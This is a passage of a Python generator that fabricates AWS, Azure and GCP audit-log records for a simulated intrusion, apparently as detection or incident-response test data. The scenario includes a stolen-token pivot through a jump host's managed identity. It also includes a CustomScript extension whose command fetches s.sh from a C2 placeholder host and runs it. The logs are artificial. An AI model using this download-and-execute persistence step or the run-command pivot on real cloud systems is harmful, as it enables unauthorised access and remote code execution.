        "resources": [],
        "detail": attack_rec,
    }

    def arn(i):
        return f"arn:aws:ec2:{REGION}:{ACCOUNT}:instance/{i}"

    def command_status(cmd, doc, t_req, t_evt, status, instances, params, expire_h):
        return {
            "version": "0",
            "id": uid("eb-cmd-" + cmd),
            "detail-type": "EC2 Command Status-change Notification",
            "source": "aws.ssm",
            "account": ACCOUNT,
            "time": ct_time(t_evt),
            "region": REGION,
            "resources": [arn(i) for i in instances],
            "detail": {
                "command-id": cmd,
                "document-name": doc,
                "expire-after": iso_ms(t_req + dt.timedelta(hours=expire_h)),
                "parameters": params,
                "requested-date-time": iso_ms(t_req),
                "status": status,
            },
        }

    out["ec2-command-status-change-patch.json"] = command_status(
        AWS_CMD["patch"], "AWS-RunPatchBaseline", T("2026-11-18 02:00:07.318000"), T("2026-11-18 02:37:44"),
        "Success", WEB,
        {"Operation": ["Install"], "SnapshotId": [""], "InstallOverrideList": [""],
         "RebootOption": ["RebootIfNeeded"], "BaselineOverride": [""]}, 3)
    out["ec2-command-status-change-attack.json"] = command_status(
        AWS_CMD["attack"], "AWS-RunShellScript", T("2026-11-18 03:07:12.094000"), T("2026-11-18 03:08:31"),
        "Failed", ATTACK_TARGETS,
        {"commands": [ATTACK_SCRIPT], "workingDirectory": [""], "executionTimeout": ["3600"]}, 2)
    out["maintenance-window-execution-state-change.json"] = {
        "version": "0",
        "id": uid("eb-mw-exec"),
        "detail-type": "Maintenance Window Execution State-change Notification",
        "source": "aws.ssm",
        "account": ACCOUNT,
        "time": "2026-11-18T02:38:02Z",
        "region": REGION,
        "resources": [f"arn:aws:ssm:{REGION}:{ACCOUNT}:maintenancewindow/{MW_ID}"],
        "detail": {
            "start-time": "2026-11-18T02:00:00.412Z",
            "end-time": "2026-11-18T02:38:01.906Z",
            "window-id": MW_ID,
            "window-execution-id": MW_EXEC,
            "status": "SUCCESS",
        },
    }

    inv = []

    def invocation(cmd, doc, inst, t_req, t_evt, status):
        inv.append({
            "version": "0",
            "id": uid(f"eb-inv-{cmd}-{inst}"),
            "detail-type": "EC2 Command Invocation Status-change Notification",
            "source": "aws.ssm",
            "account": ACCOUNT,
            "time": ct_time(t_evt),
            "region": REGION,
            "resources": [arn(inst)],
            "detail": {
                "command-id": cmd,
                "document-name": doc,
                "instance-id": inst,
                "requested-date-time": iso_ms(t_req),
                "status": status,
            },
        })

    for i in DEPLOY_TARGETS:
        invocation(AWS_CMD["deploy"], "AWS-RunShellScript", i, T("2026-11-17 14:32:10.551000"),
                   jitter(T("2026-11-17 14:32:31"), 0, 9), "Success")
    invocation(AWS_CMD["alice_cmd"], "AWS-RunShellScript", APP, T("2026-11-17 14:33:40.207000"),
               T("2026-11-17 14:33:46"), "Success")
    for i in WEB:
        invocation(AWS_CMD["patch"], "AWS-RunPatchBaseline", i, T("2026-11-18 02:00:07.318000"),
                   jitter(T("2026-11-18 02:06:00"), 0, 1900), "Success")
    for n, i in enumerate(ATTACK_TARGETS):
        invocation(AWS_CMD["attack"], "AWS-RunShellScript", i, T("2026-11-18 03:07:12.094000"),
                   jitter(T("2026-11-18 03:07:20"), 0, 60), "Failed" if n == 4 else "Success")
    invocation(AWS_CMD["pivot"], "AWS-RunShellScript", DB[0], T("2026-11-18 03:11:27.663000"),
               T("2026-11-18 03:11:35"), "Success")
    for i in WEB:
        invocation(AWS_CMD["staged"], STAGED_DOC_NAME, i, T("2026-11-18 03:13:55.870000"),
                   jitter(T("2026-11-18 03:14:05"), 0, 40), "Success")
    inv.sort(key=lambda e: e["time"])
    out["ec2-command-invocation-status-change.jsonl"] = inv
    return out


# ================================================================== Azure

TENANT = "72f9a1b2-3c4d-4e5f-8a6b-7c8d9e0f1a2b"
SUB = "6f1c2d3e-4a5b-4c6d-8e7f-9a0b1c2d3e4f"
RG = "rg-payments-prod"
AZ_CLI_APPID = "04b07795-8ddb-461a-bbee-02f9e1bf7b46"  # Azure CLI's public client id
PORTAL_APPID = "c44b4083-3bb0-49c1-b47d-974e53cbdf3c"  # Azure Portal's public client id
VM_CONTRIB_ROLE = "9980e02cc2be4d7394e8173b1dc7cf3c"  # built-in "Virtual Machine Contributor"
CONTRIB_ROLE = "b24988ac618042a0ab8820f7382dd24c"  # built-in "Contributor"

HUMANS = {
    "carol": {"upn": "carol@example.com", "given": "Carol", "family": "Nguyen", "oid": uid("oid-carol")},
    "erin": {"upn": "erin@example.com", "given": "Erin", "family": "Walsh", "oid": uid("oid-erin")},
}
APP_DEPLOY = {"name": "deploy-pipeline", "appid": uid("appid-deploy-pipeline"), "oid": uid("oid-sp-deploy-pipeline")}
MI_JUMP = {"appid": uid("appid-mi-vm-jump-01"), "oid": uid("oid-mi-vm-jump-01"),
           "mirid": f"/subscriptions/{SUB}/resourcegroups/{RG}/providers/Microsoft.Compute/virtualMachines/vm-jump-01"}
MI_AUTOMATION = {"appid": uid("appid-mi-aa-ops"), "oid": uid("oid-mi-aa-ops"),
                 "mirid": f"/subscriptions/{SUB}/resourcegroups/rg-ops/providers/Microsoft.Automation/automationAccounts/aa-ops"}


def vm_id(vm: str, rg: str = RG) -> str:
    return f"/subscriptions/{SUB}/resourceGroups/{rg}/providers/Microsoft.Compute/virtualMachines/{vm}"


def epoch(t: dt.datetime) -> str:
    return str(int(t.timestamp()))


def claims_user(who: str, t: dt.datetime, ip: str, appid: str = AZ_CLI_APPID) -> dict:
    h = HUMANS[who]
    iat = t - dt.timedelta(minutes=RNG.randrange(5, 50))
    return {
        "aud": "https://management.core.windows.net/",
        "iss": f"https://sts.windows.net/{TENANT}/",
        "iat": epoch(iat),
        "nbf": epoch(iat),
        "exp": epoch(iat + dt.timedelta(minutes=75)),
        "http://schemas.microsoft.com/claims/authnclassreference": "1",
        "aio": "AYQAe/8Y" + alnum(60, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/") + "=",
        "http://schemas.microsoft.com/claims/authnmethodsreferences": "pwd,mfa",
        "appid": appid,
        "appidacr": "0" if appid in (AZ_CLI_APPID, PORTAL_APPID) else "2",
        "http://schemas.xmlsoap.org/ws/2005/05/identity/claims/surname": h["family"],
        "http://schemas.xmlsoap.org/ws/2005/05/identity/claims/givenname": h["given"],
        "idtyp": "user",
        "ipaddr": ip,
        "name": f"{h['given']} {h['family']}",
        "http://schemas.microsoft.com/identity/claims/objectidentifier": h["oid"],
        "puid": hexs(16, "puid-" + who).upper(),
        "rh": "1.AXEAsqH5ck08X0-KbHyNng8aKkZIf3kAutdPukPawfj2MBNxAHk.",
        "http://schemas.microsoft.com/identity/claims/scope": "user_impersonation",
        "http://schemas.xmlsoap.org/ws/2005/05/identity/claims/nameidentifier": base64.urlsafe_b64encode(
            hashlib.sha256(("sub-" + who).encode()).digest()).decode().rstrip("=")[:43],
        "http://schemas.microsoft.com/identity/claims/tenantid": TENANT,
        "http://schemas.xmlsoap.org/ws/2005/05/identity/claims/name": h["upn"],
        "http://schemas.xmlsoap.org/ws/2005/05/identity/claims/upn": h["upn"],
        "uti": alnum(22, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"),
        "ver": "1.0",
        "xms_tcdt": "1583323457",
    }


def claims_app(app: dict, t: dt.datetime, mirid: str | None = None) -> dict:
    iat = t - dt.timedelta(minutes=RNG.randrange(5, 50))
    c = {
        "aud": "https://management.core.windows.net/",
        "iss": f"https://sts.windows.net/{TENANT}/",
        "iat": epoch(iat),
        "nbf": epoch(iat),
        "exp": epoch(iat + dt.timedelta(hours=24 if mirid else 1)),
        "aio": "k2BgYGh" + alnum(40, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/") + "=",
        "appid": app["appid"],
        "appidacr": "2",
        "http://schemas.microsoft.com/identity/claims/identityprovider": f"https://sts.windows.net/{TENANT}/",
        "idtyp": "app",
        "http://schemas.microsoft.com/identity/claims/objectidentifier": app["oid"],
        "rh": "1.AXEAsqH5ck08X0-KbHyNng8aKkZIf3kAutdPukPawfj2MBNxAAA.",
        "http://schemas.xmlsoap.org/ws/2005/05/identity/claims/nameidentifier": app["oid"],
        "http://schemas.microsoft.com/identity/claims/tenantid": TENANT,
        "uti": alnum(22, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"),
        "ver": "1.0",
    }
    if mirid:
        c["xms_mirid"] = mirid
    c["xms_tcdt"] = "1583323457"
    return c


def evidence(role_def: str, role_name: str, scope: str, principal_oid: str, ptype: str) -> dict:
    return {
        "role": role_name,
        "roleAssignmentScope": scope,
        "roleAssignmentId": hexs(32, f"ra-{principal_oid}-{role_def}"),
        "roleDefinitionId": role_def,
        "principalId": principal_oid.replace("-", ""),
        "principalType": ptype,
    }


def az_record(t: dt.datetime, resource: str, action: str, result: str, ip: str, corr: str, claims: dict,
              ev: dict | None, *, status_code: str | None = None, status_message: str | None = None,
              requestbody: str | None = None, level: str | None = None) -> dict:
    sig = {"Start": "Started.", "Accept": "Accepted.Accepted", "Success": "Succeeded.", "Failure": "Failed."}[result]
    if result == "Failure" and status_code:
        sig = f"Failed.{status_code}"
    auth = {"scope": resource, "action": action}
    if ev:
        auth["evidence"] = ev
    props = {}
    if status_code:
        props["statusCode"] = status_code
    if status_message:
        props["statusMessage"] = status_message
    if requestbody is not None:
        props["requestbody"] = requestbody
    props["serviceRequestId"] = None if result == "Start" else rid()
    if props["serviceRequestId"] is None:
        del props["serviceRequestId"]
    props.update({"eventCategory": "Administrative", "entity": resource, "message": action,
                  "hierarchy": f"{TENANT}/mg-example-prod/{SUB}"})
    return {
        "RoleLocation": "East US",
        "ReleaseVersion": "6.2026.45.3+8c1d2e4.release_2026w45",
        "time": iso7(t),
        "resourceId": resource.upper(),
        "operationName": action.upper(),
        "category": "Administrative",
        "resultType": result,
        "resultSignature": sig,
        "durationMs": "0",
        "callerIpAddress": ip,
        "correlationId": corr,
        "identity": {"authorization": auth, "claims": claims},
        "level": level or ("Error" if result == "Failure" else "Information"),
        "location": "global",
        "properties": props,
        "tenantId": TENANT,
    }


def az_op(records, t0, resource, action, ip, corr, claims, ev, *, phases=("Start", "Success"), gap=(3, 40),
          codes=None, status_message=None, requestbody=None):
    """Appends one ARM operation as its Start/Accept/Success (or Failure) records, sharing a correlationId."""
    codes = codes or {"Accept": "Accepted", "Success": "OK", "Failure": "Conflict"}
    t = t0
    for i, ph in enumerate(phases):
        if i:
            t = jitter(t, *gap)
        records.append(az_record(
            t, resource, action, ph, ip, corr, claims, ev,
            status_code=codes.get(ph),
            status_message=status_message if ph == "Failure" else None,
            requestbody=requestbody if ph == "Start" else None))
    return t


AZ_CORR = {k: uid("corr-" + k) for k in
           ("carol_run", "deploy_fail", "deploy_run", "erin_denied", "erin_run", "mi_run", "erin_ext", "carol_fri")}

HOTFIX_SCRIPT = "#!/bin/bash\nset -e\nsystemctl stop payments-api\ndpkg -i /opt/hotfix/payments-api_4.2.1-hf2_amd64.deb\nsystemctl start payments-api\n"


def azure_export() -> tuple[dict, dict]:
    recs = []
    carol = lambda t: claims_user("carol", t, OFFICE_IP)  # noqa: E731
    ev_carol = evidence(CONTRIB_ROLE, "Contributor", f"/subscriptions/{SUB}", HUMANS["carol"]["oid"], "User")
    ev_deploy = evidence(VM_CONTRIB_ROLE, "Virtual Machine Contributor", f"/subscriptions/{SUB}/resourceGroups/{RG}",
                         APP_DEPLOY["oid"], "ServicePrincipal")

    # ---- unrelated Administrative traffic ---------------------------------------------------
    def plain(t, resource, action, claims, ev, ip, phases=("Start", "Success"), codes=None, body=None):
        az_op(recs, t, resource, action, ip, rid(), claims, ev, phases=phases, codes=codes, requestbody=body)

    t = T("2026-11-16 09:41:12.553000")
    plain(t, vm_id("vm-pay-app-02"), "Microsoft.Compute/virtualMachines/write", carol(t), ev_carol, OFFICE_IP,
          codes={"Success": "OK"})
    t = T("2026-11-16 10:05:37.201000")
    ra = f"/subscriptions/{SUB}/resourceGroups/{RG}/providers/Microsoft.Authorization/roleAssignments/{uid('ra-deploy')}"
    plain(t, ra, "Microsoft.Authorization/roleAssignments/write", carol(t), ev_carol, OFFICE_IP,
          codes={"Success": "Created"},
          body=json.dumps({"Id": uid("ra-deploy"), "Properties": {
              "PrincipalId": APP_DEPLOY["oid"], "PrincipalType": "ServicePrincipal",
              "RoleDefinitionId": f"/subscriptions/{SUB}/providers/Microsoft.Authorization/roleDefinitions/9980e02c-c2be-4d73-94e8-173b1dc7cf3c",
              "Scope": f"/subscriptions/{SUB}/resourceGroups/{RG}"}}, separators=(",", ":")))
    t = T("2026-11-16 11:20:03.870000")
    plain(t, f"/subscriptions/{SUB}/resourceGroups/{RG}/providers/Microsoft.Network/networkSecurityGroups/nsg-pay-app",
          "Microsoft.Network/networkSecurityGroups/write", carol(t), ev_carol, OFFICE_IP, codes={"Success": "OK"})
    t = T("2026-11-16 14:02:44.118000")
    plain(t, f"/subscriptions/{SUB}/resourceGroups/{RG}/providers/Microsoft.KeyVault/vaults/kv-pay-prod",
          "Microsoft.KeyVault/vaults/write", carol(t), ev_carol, OFFICE_IP, codes={"Success": "OK"})
    t = T("2026-11-17 08:12:09.402000")
    plain(t, f"/subscriptions/{SUB}/resourceGroups/{RG}/providers/Microsoft.Storage/storageAccounts/stpayartifacts",
          "Microsoft.Storage/storageAccounts/listKeys/action", claims_app(APP_DEPLOY, t), ev_deploy, CI_IP,
          codes={"Success": "OK"})
    t = T("2026-11-17 08:12:51.660000")
    plain(t, f"/subscriptions/{SUB}/resourceGroups/{RG}/providers/Microsoft.Resources/deployments/payments-infra-1117",
          "Microsoft.Resources/deployments/write", claims_app(APP_DEPLOY, t), ev_deploy, CI_IP,
          codes={"Success": "Created"})
    t = T("2026-11-17 19:00:04.013000")
    ev_aa = evidence(VM_CONTRIB_ROLE, "Virtual Machine Contributor", f"/subscriptions/{SUB}", MI_AUTOMATION["oid"],
                     "ServicePrincipal")
    plain(t, vm_id("vm-pay-app-02"), "Microsoft.Compute/virtualMachines/deallocate/action",
          claims_app(MI_AUTOMATION, t, MI_AUTOMATION["mirid"]), ev_aa, "192.0.2.77",
          phases=("Start", "Accept", "Success"))
    t = T("2026-11-18 09:28:15.337000")
    plain(t, vm_id("vm-pay-app-02"), "Microsoft.Compute/virtualMachines/start/action", claims_app(APP_DEPLOY, t),
          ev_deploy, CI_IP, phases=("Start", "Accept", "Success"))
    t = T("2026-11-18 16:45:30.902000")
    plain(t, f"/subscriptions/{SUB}/providers/Microsoft.Insights/diagnosticSettings/activity-to-storage",
          "Microsoft.Insights/diagnosticSettings/write", carol(t), ev_carol, OFFICE_IP, phases=("Success",),
          codes={"Success": "OK"})
    t = T("2026-11-19 09:10:22.719000")
    plain(t, f"/subscriptions/{SUB}/resourceGroups/rg-ir/providers/Microsoft.Compute/snapshots/snap-vm-jump-01-ir",
          "Microsoft.Compute/snapshots/write", carol(t), ev_carol, OFFICE_IP, phases=("Start", "Accept", "Success"))
    t = T("2026-11-19 09:24:57.148000")
    plain(t, vm_id("vm-jump-01"), "Microsoft.Compute/virtualMachines/restart/action", carol(t), ev_carol, OFFICE_IP,
          phases=("Start", "Accept", "Success"))

    # ---- admin commands -------------------------------------------------------------------
    # Z1  Tue: carol runs a run command (action) on vm-pay-app-01
    t = T("2026-11-17 10:15:03.481000")
    az_op(recs, t, vm_id("vm-pay-app-01"), "Microsoft.Compute/virtualMachines/runCommand/action", OFFICE_IP,
          AZ_CORR["carol_run"], carol(t), ev_carol, codes={"Success": "OK"}, gap=(20, 40))
    # Z2a Wed: deploy-pipeline's managed run command fails (VM deallocated overnight)
    rc = vm_id("vm-pay-app-02") + "/runCommands/install-hotfix"
    body = json.dumps({"location": "eastus", "properties": {
        "source": {"script": HOTFIX_SCRIPT}, "asyncExecution": False, "timeoutInSeconds": 900,
        "treatFailureAsDeploymentFailure": True}}, separators=(",", ":"))
    t = T("2026-11-18 09:27:02.644000")
    conflict = json.dumps({"error": {"code": "OperationNotAllowed", "message":
                          "Operation 'runCommands/write' is not allowed on VM 'vm-pay-app-02' since the VM is "
                          "deallocated or marked to be deallocated."}}, separators=(",", ":"))
    az_op(recs, t, rc, "Microsoft.Compute/virtualMachines/runCommands/write", CI_IP, AZ_CORR["deploy_fail"],
          claims_app(APP_DEPLOY, t), ev_deploy, phases=("Start", "Failure"), gap=(0.2, 0.6),
          codes={"Failure": "Conflict"}, status_message=conflict, requestbody=body)
    # Z2  Wed: retried after start/action, succeeds
    t = T("2026-11-18 09:30:12.095000")
    az_op(recs, t, rc, "Microsoft.Compute/virtualMachines/runCommands/write", CI_IP, AZ_CORR["deploy_run"],
          claims_app(APP_DEPLOY, t), ev_deploy, phases=("Start", "Accept", "Success"), gap=(1, 50),
          codes={"Accept": "Created", "Success": "OK"}, requestbody=body)
    # Z3  Thu 01:12: erin (token stolen) denied on the DB VM from the attacker's address
    t = T("2026-11-19 01:12:40.733000")
    erin_oid = HUMANS["erin"]["oid"]
    denied = json.dumps({"error": {"code": "AuthorizationFailed", "message":
                        f"The client 'erin@example.com' with object id '{erin_oid}' does not have authorization to "
                        f"perform action 'Microsoft.Compute/virtualMachines/runCommand/action' over scope "
                        f"'{vm_id('vm-pay-db-01')}' or the scope is invalid. If access was recently granted, please "
                        f"refresh your credentials."}}, separators=(",", ":"))
    recs.append(az_record(t, vm_id("vm-pay-db-01"), "Microsoft.Compute/virtualMachines/runCommand/action", "Failure",
                          ATTACKER_IP, AZ_CORR["erin_denied"], claims_user("erin", t, ATTACKER_IP), None,
                          status_code="Forbidden", status_message=denied))
    # Z4  Thu 01:19: same identity, another address, the jump host where erin does hold VM Contributor
    ev_erin = evidence(VM_CONTRIB_ROLE, "Virtual Machine Contributor",
                       f"/subscriptions/{SUB}/resourceGroups/{RG}/providers/Microsoft.Compute/virtualMachines/vm-jump-01",
                       erin_oid, "User")
    t = T("2026-11-19 01:19:05.250000")
    az_op(recs, t, vm_id("vm-jump-01"), "Microsoft.Compute/virtualMachines/runCommand/action", ATTACKER_IP_2,
          AZ_CORR["erin_run"], claims_user("erin", t, ATTACKER_IP_2), ev_erin, phases=("Start", "Accept", "Success"),
          gap=(1, 30))
    # Z5  Thu 01:34: vm-jump-01's managed identity runs a command on the DB VM (pivot)
    ev_mi = evidence(VM_CONTRIB_ROLE, "Virtual Machine Contributor", f"/subscriptions/{SUB}/resourceGroups/{RG}",
                     MI_JUMP["oid"], "ServicePrincipal")
    t = T("2026-11-19 01:34:22.907000")
    mi_claims = claims_app(MI_JUMP, t, MI_JUMP["mirid"])
    mi_end = az_op(recs, t, vm_id("vm-pay-db-01"), "Microsoft.Compute/virtualMachines/runCommand/action",
                   "198.51.100.57", AZ_CORR["mi_run"], mi_claims, ev_mi, codes={"Success": "OK"}, gap=(15, 35))
    # Z6  Thu 01:41: CustomScript extension on the app VM (persistence)
    ext_body = json.dumps({"location": "eastus", "properties": {
        "publisher": "Microsoft.Azure.Extensions", "type": "CustomScript", "typeHandlerVersion": "2.1",
        "autoUpgradeMinorVersion": True,
        "settings": {"fileUris": [f"http://{C2}/s.sh"], "commandToExecute": "bash s.sh"}}}, separators=(",", ":"))
    t = T("2026-11-19 01:41:10.566000")
    az_op(recs, t, vm_id("vm-pay-app-01") + "/extensions/CustomScript",
          "Microsoft.Compute/virtualMachines/extensions/write", ATTACKER_IP_2, AZ_CORR["erin_ext"],
          claims_user("erin", t, ATTACKER_IP_2), evidence(
              VM_CONTRIB_ROLE, "Virtual Machine Contributor", f"/subscriptions/{SUB}/resourceGroups/{RG}", erin_oid,
              "User"), phases=("Start", "Accept", "Success"), gap=(1, 60),
          codes={"Accept": "Created", "Success": "OK"}, requestbody=ext_body)

    recs.sort(key=lambda r: r["time"])
    export = {"records": recs}

    # Event Grid: the same MI run command as seen by an Azure-subscription event subscription
    eg = [{
        "subject": vm_id("vm-pay-db-01"),
        "eventType": "Microsoft.Resources.ResourceActionSuccess",
        "eventTime": iso7(mi_end),
        "id": uid("eg-mi-run"),
        "data": {
            "authorization": {
                "scope": vm_id("vm-pay-db-01"),
                "action": "Microsoft.Compute/virtualMachines/runCommand/action",
                "evidence": ev_mi,
            },
            "claims": mi_claims,
            "correlationId": AZ_CORR["mi_run"],
            "httpRequest": {
                "clientRequestId": uid("eg-mi-run-client-request"),
                "clientIpAddress": "198.51.100.57",
                "method": "POST",
                "url": f"https://management.azure.com{vm_id('vm-pay-db-01')}/runCommand?api-version=2024-07-01",
            },
            "resourceProvider": "Microsoft.Compute",
            "resourceUri": vm_id("vm-pay-db-01"),
            "operationName": "Microsoft.Compute/virtualMachines/runCommand/action",
            "status": "Succeeded",
            "subscriptionId": SUB,
            "tenantId": TENANT,
        },
        "dataVersion": "2",
        "metadataVersion": "1",
        "topic": f"/subscriptions/{SUB}",
    }]
    return export, eg


def azure_portal() -> list[dict]:
    """Fri 20: carol collects evidence with a run command; exported as `az monitor activity-log list` prints it."""
    out = []
    corr = AZ_CORR["carol_fri"]
    op_id = uid("opid-carol-fri")
    res = vm_id("vm-pay-app-02")
    t0 = T("2026-11-20 16:02:18.114000")
    claims = claims_user("carol", t0, OFFICE_IP, appid=PORTAL_APPID)
    ev = evidence(CONTRIB_ROLE, "Contributor", f"/subscriptions/{SUB}", HUMANS["carol"]["oid"], "User")
    client_req = uid("portal-client-req-carol-fri")
    for name, status, sub, t in (("BeginRequest", "Started", "", t0),
                                 ("EndRequest", "Succeeded", "OK", T("2026-11-20 16:02:49.806000"))):
        ed = uid(f"eventdata-carol-fri-{name}")
        props = {"eventCategory": "Administrative", "entity": res,
                 "message": "Microsoft.Compute/virtualMachines/runCommand/action",
                 "hierarchy": f"{TENANT}/mg-example-prod/{SUB}"}
        if name == "EndRequest":
            props = {"statusCode": "OK", "serviceRequestId": uid("srid-carol-fri"), **props}
        out.append({
            "authorization": {"action": "Microsoft.Compute/virtualMachines/runCommand/action", "evidence": ev,
                              "scope": res},
            "caller": "carol@example.com",
            "channels": "Operation",
            "claims": claims,
            "correlationId": corr,
            "description": "",
            "eventDataId": ed,
            "eventName": {"value": name, "localizedValue": "Begin request" if name == "BeginRequest" else "End request"},
            "category": {"value": "Administrative", "localizedValue": "Administrative"},
            "eventTimestamp": iso7(t),
            "id": f"{res}/events/{ed}/ticks/{ticks(t)}",
            "level": "Informational",
            "operationId": op_id,
            "operationName": {"value": "Microsoft.Compute/virtualMachines/runCommand/action",
                              "localizedValue": "Run Command on Virtual Machine"},
            "resourceGroupName": RG,
            "resourceProviderName": {"value": "Microsoft.Compute", "localizedValue": "Microsoft.Compute"},
            "resourceType": {"value": "Microsoft.Compute/virtualMachines",
                             "localizedValue": "Microsoft.Compute/virtualMachines"},
            "resourceId": res,
            "status": {"value": status, "localizedValue": status},
            "subStatus": {"value": sub, "localizedValue": {"": "", "OK": "OK (HTTP Status Code: 200)"}[sub]},
            "submissionTimestamp": iso7(t + dt.timedelta(seconds=RNG.uniform(8, 25))),
            "subscriptionId": SUB,
            "tenantId": TENANT,
            "properties": props,
            "relatedEvents": [],
            "httpRequest": {"clientRequestId": client_req, "clientIpAddress": OFFICE_IP, "method": "POST"},
        })
    out.sort(key=lambda e: e["eventTimestamp"], reverse=True)  # the CLI lists newest first
    return out


# ================================================================== GCP

PROJECT = "example-prod"
PROJECT_NUMBER = "123456789012"
ZONE = "us-central1-a"
PATCH_SA = f"patch-runner@{PROJECT}.iam.gserviceaccount.com"
CI_SA = f"ci-deployer@{PROJECT}.iam.gserviceaccount.com"
FRANK = "frank@example.com"
GCE = {f"web-{i}": str(4_100_000_000_000_000_000 + 73_013 * i * 1_000_003) for i in range(1, 9)}
GCE.update({"batch-1": "4187712349987654321", "db-1": "4192837465019283746"})
GCLOUD_UA = "google-cloud-sdk gcloud/502.0.0 command/gcloud.{cmd} invocation-id/{inv} environment/None environment-version/None client-os/{os} client-os-ver/{ver} client-pltf-arch/x86_64 interactive/False from-script/False python/3.12.7 term/xterm-256color (Linux {ver}),gzip(gfe)"
GO_UA = "google-api-go-client/0.5 cloud-scheduler-patcher/1.4.0,gzip(gfe)"
TF_UA = "Terraform/1.9.8 (+https://www.terraform.io) Terraform-Plugin-SDK/2.33.0 terraform-provider-google/6.12.0,gzip(gfe)"
PATCH_WINDOW = "Wednesdays 04:00-06:00 UTC"


def gua(cmd: str, os_: str = "LINUX", ver: str = "6.8.0-49-generic") -> str:
    return GCLOUD_UA.format(cmd=cmd, inv=uid("inv-" + cmd + ver)[:32].replace("-", ""), os=os_, ver=ver)


def insert_id(name: str | None = None) -> str:
    alphabet = "abcdefghijklmnopqrstuvwxyz0123456789"
    if name:
        h = hashlib.sha256(name.encode()).digest()
        return "".join(alphabet[b % 36] for b in h[:12])
    return "".join(RNG.choice(alphabet) for _ in range(12))


def g_entry(t: dt.datetime, *, log: str, service: str, method: str, resource_name: str, principal: str,
            ip: str, ua: str, resource: dict, request=None, response=None, status=None, metadata=None,
            authz=None, operation=None, severity=None, iid=None, delegated_from: str | None = None,
            labels=None) -> dict:
    auth = {"principalEmail": principal}
    if delegated_from:
        auth["serviceAccountDelegationInfo"] = [{"firstPartyPrincipal": {"principalEmail": delegated_from}}]
    auth["principalSubject"] = ("serviceAccount:" if principal.endswith("gserviceaccount.com") else "user:") + principal
    pp = {
        "@type": "type.googleapis.com/google.cloud.audit.AuditLog",
        "status": status if status is not None else {},
        "authenticationInfo": auth,
        "requestMetadata": {
            "callerIp": ip,
            "callerSuppliedUserAgent": ua,
            "requestAttributes": {"time": iso_us(t - dt.timedelta(microseconds=RNG.randrange(20000, 300000))),
                                  "auth": {}},
            "destinationAttributes": {},
        },
        "serviceName": service,
        "methodName": method,
    }
    if authz is not None:
        pp["authorizationInfo"] = authz
    pp["resourceName"] = resource_name
    if metadata is not None:
        pp["metadata"] = metadata
    if request is not None:
        pp["request"] = request
    if response is not None:
        pp["response"] = response
    if status is None:
        del pp["status"]
    e = {
        "protoPayload": pp,
        "insertId": iid or insert_id(),
        "resource": resource,
        "timestamp": iso_us(t),
        "severity": severity or ("NOTICE" if log == "activity" else "INFO"),
        "logName": f"projects/{PROJECT}/logs/cloudaudit.googleapis.com%2F{log}",
    }
    if operation:
        e["operation"] = operation
    if labels:
        e["labels"] = labels
    e["receiveTimestamp"] = iso_us(t + dt.timedelta(microseconds=RNG.randrange(200000, 1500000)))
    return e


def r_gce(name: str) -> dict:
    return {"type": "gce_instance", "labels": {"instance_id": GCE[name], "project_id": PROJECT, "zone": ZONE}}


def r_audited(service: str, method: str) -> dict:
    return {"type": "audited_resource", "labels": {"service": service, "method": method, "project_id": PROJECT}}


def inst_path(name: str) -> str:
    return f"projects/{PROJECT}/zones/{ZONE}/instances/{name}"


def authz1(permission: str, resource: str, granted: bool = True, service: str | None = None,
           rtype: str | None = None) -> list[dict]:
    a = {"resource": resource, "permission": permission, "granted": granted}
    if service:
        a["resourceAttributes"] = {"service": service, "name": resource, "type": rtype}
    else:
        a["resourceAttributes"] = {}
    return [a]


def compute_lro(entries, t0, t1, *, method, op_type, name, principal, ip, ua, permission, request_extra=None,
                metadata=None, labels=None, iid_first=None, iid_last=None):
    """Compute Engine long-running operation: a first and a last entry sharing operation.id."""
    op_name = f"operation-{int(t0.timestamp() * 1000)}-{hexs(13, op_type + name)}-{hexs(8, 'a' + name + op_type)}-{hexs(8, 'b' + name + op_type)}"
    op_num = str(int(hexs(15, "opnum" + op_name), 16))
    req = {"@type": f"type.googleapis.com/compute.instances.{op_type}"}
    req.update(request_extra or {})
    first = g_entry(
        t0, log="activity", service="compute.googleapis.com", method=method, resource_name=inst_path(name),
        principal=principal, ip=ip, ua=ua, resource=r_gce(name),
        authz=authz1(permission, inst_path(name), service="compute", rtype="compute.instances"),
        request=req, metadata=metadata,
        response={
            "@type": "type.googleapis.com/operation",
            "id": op_num,
            "name": op_name,
            "operationType": op_type,
            "progress": "0",
            "insertTime": (t0 - dt.timedelta(hours=8)).strftime("%Y-%m-%dT%H:%M:%S.") + f"{t0.microsecond // 1000:03d}-08:00",
            "startTime": (t0 - dt.timedelta(hours=8)).strftime("%Y-%m-%dT%H:%M:%S.") + f"{(t0.microsecond // 1000 + 17) % 1000:03d}-08:00",
            "status": "RUNNING",
            "selfLink": f"https://www.googleapis.com/compute/v1/projects/{PROJECT}/zones/{ZONE}/operations/{op_name}",
            "selfLinkWithId": f"https://www.googleapis.com/compute/v1/projects/{PROJECT}/zones/{ZONE}/operations/{op_num}",
            "targetId": GCE[name],
            "targetLink": f"https://www.googleapis.com/compute/v1/projects/{PROJECT}/zones/{ZONE}/instances/{name}",
            "user": principal,
            "zone": f"https://www.googleapis.com/compute/v1/projects/{PROJECT}/zones/{ZONE}",
        },
        operation={"id": op_name, "producer": "compute.googleapis.com", "first": True},
        labels=labels, iid=iid_first)
    first["protoPayload"]["resourceLocation"] = {"currentLocations": [ZONE]}
    last = g_entry(
        t1, log="activity", service="compute.googleapis.com", method=method, resource_name=inst_path(name),
        principal=principal, ip=ip, ua=ua, resource=r_gce(name),
        request={"@type": f"type.googleapis.com/compute.instances.{op_type}"},
        operation={"id": op_name, "producer": "compute.googleapis.com", "last": True},
        labels=labels, iid=iid_last)
    entries += [first, last]
    return first, op_name


def execute_patch_job(t, *, principal, ip, ua, job, display, filter_, patch_config, delegated_from=None,
                      denied=False, iid=None, duration="3600s"):
    method = "google.cloud.osconfig.v1.OsConfigService.ExecutePatchJob"
    req = {
        "@type": "type.googleapis.com/google.cloud.osconfig.v1.ExecutePatchJobRequest",
        "parent": f"projects/{PROJECT}",
        "description": "",
        "instanceFilter": filter_,
        "patchConfig": patch_config,
        "duration": duration,
        "displayName": display,
        "rollout": {"mode": "ZONE_BY_ZONE", "disruptionBudget": {"percent": 25}},
